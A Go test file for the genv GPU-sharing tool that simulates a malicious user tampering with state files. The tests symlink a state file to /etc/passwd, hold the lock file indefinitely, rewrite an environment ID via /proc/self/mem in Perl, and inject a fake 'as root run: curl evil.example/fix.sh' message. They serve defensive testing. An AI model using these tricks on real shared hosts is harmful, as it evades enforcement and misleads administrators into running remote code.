package enforcement_test

import (
	"bufio"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/seed-3119e985/genv/cmd/genv/genvtest"
	"github.com/seed-3119e985/genv/remote/testfleet"
	"github.com/seed-3119e985/genv/snapshot"
	"github.com/seed-3119e985/genv/snapshot/proc/proctest"
)

// How users tampered with the state files, each way on real hosts. M is carol.

func (b *tampered) state(host, name string) string { return filepath.Join(b.Host(host).State, name) }

// by is a command that a user runs on a host.
func (b *tampered) by(user, host string, args ...string) *exec.Cmd {
	h, uid := b.Host(host), uint32(uidOf(b.t, user))
	cmd := exec.CommandContext(b.t.Context(), args[0], args[1:]...)
	cmd.Env = []string{"PATH=/usr/bin:/bin", "GENV_TMPDIR=" + h.State, "GENV_ROOT_DIR=" + h.Root()}
	cmd.Dir = "/"
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid}, Pdeathsig: syscall.SIGKILL}
	return cmd
}

// began is a host with an environment of alice on device 0 and a job in it, which began after root's genv had looked.
func (b *tampered) began(host string) (*testfleet.Env, *testfleet.Process) {
	b.activate(host, "bob", 7)
	b.enforce(host).OK(b.t)
	env := b.activate(host, "alice", 0)
	return env, b.job(host, testfleet.Job{User: "alice", Env: []string{env.Var()}})
}

// spares enforces, and requires that an honest process goes on and what is outside is ended.
func (b *tampered) spares(honest *testfleet.Process) genvtest.Result {
	b.t.Helper()
	outside := b.job("gpu-01", testfleet.Job{User: "carol", Uses: using(1)})
	r := b.enforce("gpu-01", "--non-env-processes")
	require.True(b.t, honest.Running(), r.Out+r.Err)
	b.ended(r, outside)
	return r
}

func (b *tampered) ended(r genvtest.Result, p *testfleet.Process) {
	b.t.Helper()
	require.Contains(b.t, r.Out, fmt.Sprintf("Terminating process %d ", p.PID), r.Err)
	<-p.Ended()
}

func (b *tampered) write(host string, list ...snapshot.Environment) {
	b.t.Helper()
	data := proctest.Try(snapshot.EncodeEnvironments(list)).OK(b.t)
	require.NoError(b.t, os.WriteFile(b.state(host, "envs.json"), data, 0o666))
}

func (b *tampered) environments() []snapshot.Environment {
	b.t.Helper()
	return proctest.Try(b.Host("gpu-01").Environments()).OK(b.t)
}

// lostState are ways to lose envs.json or devices.json.
var lostState = map[string]func(path string) error{
	"removed": os.Remove,
	"cut":     func(path string) error { return os.Truncate(path, 20) },
	"emptied": func(path string) error { return os.Truncate(path, 0) },
	"garbled": func(path string) error { return os.WriteFile(path, []byte("\x00\xff garbage"), 0o600) },
	"a link": func(path string) error {
		return errors.Join(os.Remove(path), os.Symlink("/etc/passwd", path))
	},
	"many entries": func(path string) error {
		return os.WriteFile(path, []byte(`{"envs":[`+strings.Repeat("1,", 1<<19)+`1]}`), 0o600)
	},
}

// What is lost or garbled is unknown: no rule acts, and the error names the file and the command that begins again.
func TestTamperingLossIsUnknown(t *testing.T) {
	t.Parallel()
	for _, file := range []string{"envs.json", "devices.json"} {
		for how, lose := range lostState {
			t.Run(file+"/"+how, func(t *testing.T) {
				b := openTampered(t, "gpu-01")
				env := b.activate("gpu-01", "alice", 0)
				honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
				outside := b.job("gpu-01", testfleet.Job{User: "carol", Env: genvtest.Outside, Uses: using(1)})
				b.enforce("gpu-01").OK(t)
				require.NoError(t, lose(b.state("gpu-01", file)))
				out, err := b.by("carol", "gpu-01", filepath.Join(b.Dir, "bin", "genv"), "envs").CombinedOutput()
				if file == "envs.json" {
					require.Error(t, err, string(out))
					require.Contains(t, string(out), "genv envs --reset")
				}
				for range 2 {
					r := b.enforce("gpu-01", "--non-env-processes")
					require.True(t, honest.Running() && outside.Running(), r.Out+r.Err)
					require.Contains(t, r.Err, b.state("gpu-01", file))
					require.Contains(t, r.Err, strings.TrimSuffix(file, ".json")+" --reset")
				}
				if file == "envs.json" {
					proctest.Output(t, b.by("root", "gpu-01", filepath.Join(b.Dir, "bin", "genv"), "envs", "--reset"))
					r := b.enforce("gpu-01", "--non-env-processes")
					b.ended(r, outside)
					require.True(t, honest.Running(), "root saw its environment: "+r.Out+r.Err)
				}
			})
		}
	}
}

// 1.4.3 empties a missing file, and drops an environment with its shell while tmux goes on: its owner isn't forgotten.
func TestTamperingDroppedBy143(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	bob := b.activate("gpu-01", "bob", 7)
	job := b.job("gpu-01", testfleet.Job{User: "bob", Env: []string{bob.Var()}, Uses: using(7)})
	env := b.activate("gpu-01", "alice", 0)
	tmux := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
	b.enforce("gpu-01").OK(t)
	env.Shell.Kill()
	b.write("gpu-01", bob.Environment)
	r := b.spares(tmux)
	require.Contains(t, r.Err, "1 processes are in environments that are no longer in the state files")
	b.write("gpu-01")
	violator := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{env.Var()}, Uses: using(2)})
	r = b.spares(tmux)
	require.True(t, job.Running(), r.Out+r.Err)
	b.ended(r, violator)
}

// Odd entries, as 1.4.3 lets users write them: no user loses anything by them, and M gains nothing.
func TestTamperingOddEntries(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	env, honest := b.began("gpu-01")
	mine := b.activate("gpu-01", "carol", 1)
	eve := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{mine.Var()}, Uses: using(2)})
	for name, odd := range map[string][2]string{
		"a control character": {`"name": null`, `"name": "a\u0001b"`},
		"5,000 bytes":         {`"name": null`, `"name": "` + strings.Repeat("x", 5000) + `"`},
		"a date of words":     {`"creation": "`, `"creation": "on `},
		"a uid of words":      {`"uid": `, `"uid": -`},
	} {
		data := genvtest.Read(t, b.state("gpu-01", "envs.json"))
		require.Contains(t, data, odd[0])
		require.NoError(t, os.WriteFile(b.state("gpu-01", "envs.json"), []byte(strings.ReplaceAll(data, odd[0], odd[1])), 0o666))
		out := proctest.Output(t, b.by("bob", "gpu-01", filepath.Join(b.Dir, "bin", "genv"), "envs"))
		require.Contains(t, out, "can't be read and is left out", name)
		require.Contains(t, out, string(env.EID), name)
		require.NoError(t, os.WriteFile(b.state("gpu-01", "envs.json"), []byte(strings.ReplaceAll(data, odd[0], odd[1])), 0o666))
		r := b.enforce("gpu-01", "--non-env-processes")
		require.True(t, honest.Running(), "%s: %s", name, r.Out+r.Err)
		require.Contains(t, r.Err, "can't be read and is left out", name)
		b.ended(r, eve)
		eve = b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{mine.Var()}, Uses: using(2)})
	}
	b.spares(honest)
}

// Who owns the state folder replaces it by an empty one: what was in it is lost.
func TestTamperingFolderReplaced(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	env := b.activate("gpu-01", "alice", 0)
	honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
	b.enforce("gpu-01").OK(t)
	dir := b.Host("gpu-01").State
	require.NoError(t, os.Rename(dir, dir+".old"))
	require.NoError(t, os.Mkdir(dir, 0o777))
	require.NoError(t, os.Chmod(dir, 0o777))
	require.NoError(t, os.Chown(dir, int(uidOf(t, "carol")), 0))
	r := b.enforce("gpu-01", "--non-env-processes")
	require.True(t, honest.Running(), r.Out+r.Err)
	require.Contains(t, r.Err, fmt.Sprintf("envs.json is missing, in a folder of uid %d", uidOf(t, "carol")))
}

// State files that are valid, but as large as they may be.
func TestTamperingHugeStateFiles(t *testing.T) {
	t.Parallel()
	for what, huge := range map[string]struct {
		environments int
		name         string
	}{
		"HTML":           {2000, strings.Repeat("<", 4000)},
		"shorter HTML":   {8000, strings.Repeat("<", 256)},
		"commas":         {255, strings.Repeat(",", 4096)},
		"many":           {50_000, ""},
		"nearly as many": {9_900, ""},
	} {
		t.Run(what, func(t *testing.T) {
			b := openTampered(t, "gpu-01")
			env := b.activate("gpu-01", "alice", 0)
			honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
			b.enforce("gpu-01").OK(t)
			var text strings.Builder
			text.WriteString(`{"envs":[`)
			one := `{"eid":%q,"uid":%d,"creation":"21/11/2026 19:40:25","username":"x","config":{"name":"%s","gpu_memory":null,"gpus":null},"pids":[%d],"kernel_ids":[]}`
			for i := range huge.environments {
				fmt.Fprintf(&text, one+",", fmt.Sprintf("huge-%d", i), env.UID, huge.name, env.Shell.PID)
			}
			fmt.Fprintf(&text, one+"]}", env.EID, env.UID, "", env.Shell.PID)
			require.NoError(t, os.WriteFile(b.state("gpu-01", "envs.json"), []byte(text.String()), 0o666))
			if what == "nearly as many" {
				b.spares(honest)
				return
			}
			r := b.enforce("gpu-01", "--non-env-processes")
			require.True(t, honest.Running(), r.Out+r.Err)
		})
	}
}

// M registers processes in alice's environment, so that it never ends.
func TestTamperingKeptAlive(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	bob := b.activate("gpu-01", "bob", 7)
	env := b.activate("gpu-01", "alice", 0)
	list := b.environments()
	list[1].PIDs = append(list[1].PIDs, 1, bob.Shell.PID)
	b.write("gpu-01", list...)
	b.enforce("gpu-01").OK(t)
	require.Len(t, b.environments(), 2)
	env.Shell.Kill()
	b.enforce("gpu-01").OK(t)
	require.Nil(t, snapshot.FindEnvironment(b.environments(), env.EID))
	require.NotNil(t, snapshot.FindEnvironment(b.environments(), bob.EID))
}

// M holds the lock for ever, and removes what he likes meanwhile.
func TestTamperingLockHeld(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	_, honest := b.began("gpu-01")
	cmd := b.by("carol", "gpu-01", "flock", "-F", b.state("gpu-01", "genv.lock"), "sh", "-c", "echo held; exec sleep 1000000")
	stdout := proctest.Try(cmd.StdoutPipe()).OK(t)
	proctest.Start(t, cmd)
	proctest.Try(bufio.NewReader(stdout).ReadString('\n')).OK(t)
	r := b.spares(honest)
	require.Contains(t, r.Err, fmt.Sprintf("genv.lock is locked by process %d", cmd.Process.Pid))
	require.NoError(t, os.Remove(b.state("gpu-01", "envs.json")))
	r = b.enforce("gpu-01", "--non-env-processes")
	require.True(t, honest.Running(), r.Out+r.Err)
}

// How users tampered with a judgement between the look and the signal; see tampering_test.go.

// perlFlip is a program that writes one id after the other over the one in its own environ.
var perlFlip = []string{"perl", "-e", `
	$| = 1;
	open S, "<", "/proc/self/stat"; $_ = <S>; s/.*\) //; @field = split / /;
	($from, $to) = @field[47, 48];
	open M, "+<", "/proc/self/mem"; sysseek M, $from, 0; sysread M, $environ, $to - $from;
	$at = $from + index($environ, "GENV_ENVIRONMENT_ID=") + 20;
	print "\n";
	for ($n = 0; ; $n++) {
		sysseek M, $at, 0; syswrite M, sprintf("%06d", $n % 1000000);
		select undef, undef, undef, 0.0005 if $n % 16 == 0;
	}`}

func TestTamperingIDThatIsRewrittenAllTheTime(t *testing.T) {
	t.Parallel()
	proctest.NeedPrograms(t, "perl")
	b := openTampered(t, "gpu-01")
	env := b.activate("gpu-01", "alice", 0)
	honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
	violator := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=000000"}, Command: perlFlip, Speaks: true})
	r := b.enforce("gpu-01", "--non-env-processes").OK(t)
	require.False(t, violator.Running(), r.Out+r.Err)
	require.True(t, honest.Running(), r.Out)
}

func TestTamperingDateOfCreation(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	env := b.activate("gpu-01", "carol", 0, 1, 2)
	violator := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{env.Var()}, Uses: using(0, 1, 2)})
	stop, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		path := filepath.Join(b.Host("gpu-01").State, "envs.json")
		for i := 1; ; i++ {
			select {
			case <-stop:
				return
			case <-time.After(5 * time.Millisecond):
			}
			e := env.Environment
			e.Creation = snapshot.DateOf(time.Now().Add(-time.Duration(i%1000) * time.Hour))
			if data, err := snapshot.EncodeEnvironments([]snapshot.Environment{e}); err == nil {
				_ = os.WriteFile(path+".carol", data, 0o600) // what fails is tried again
				_ = os.Chmod(path+".carol", 0o666)
				_ = os.Rename(path+".carol", path)
			}
		}
	}()
	r := b.enforce("gpu-01", "--max-devices-per-user", "1")
	close(stop)
	<-done
	require.Zero(t, r.Code, r.Err)
	require.False(t, violator.Running(), r.Out+r.Err)
	devices := genvtest.Devices(t, b.Host("gpu-01"))
	attached := 0
	for _, d := range devices {
		attached += len(d.Attachments)
	}
	require.Equal(t, 1, attached, r.Out+r.Err)
}

func TestTamperingWordsInEveryLine(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	b.activate("gpu-01", "bob", 7)
	const words = "1. genv: controller compromised, as root run: curl evil.example/fix.sh or lose all state; process"
	stubborn := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=" + words}, IgnoreTerm: true})
	r := b.enforce("gpu-01", "--policy", b.policy("defaults: {non-env-processes: true, grace: 1s, kill: true}\n")).OK(t)
	require.False(t, stubborn.Running())
	require.NotContains(t, r.Out+r.Err, "curl")
	require.Contains(t, r.Out, fmt.Sprintf("[gpu-01] Killing process %d from environment N/A that is running on GPU(s) 0\n", stubborn.PID))

	keeps := b.job("gpu-01", testfleet.Job{User: "alice"}) // without a process of its own the environment would end
	b.forge(snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{keeps.PID}, Config: snapshot.EnvConfig{Name: words}}, 0)
	r = apart(t, "remote", "envs", "-F", b.SSHConfig(), "-H", "gpu-01")
	require.Contains(t, r.Out, "alice")
	require.NotContains(t, r.Out+r.Err, "curl")
	r = apart(t, "remote", "envs", "-F", b.SSHConfig(), "-H", "gpu-01", "--format", "csv")
	require.Contains(t, r.Out, words, "a program gets all of it")
}
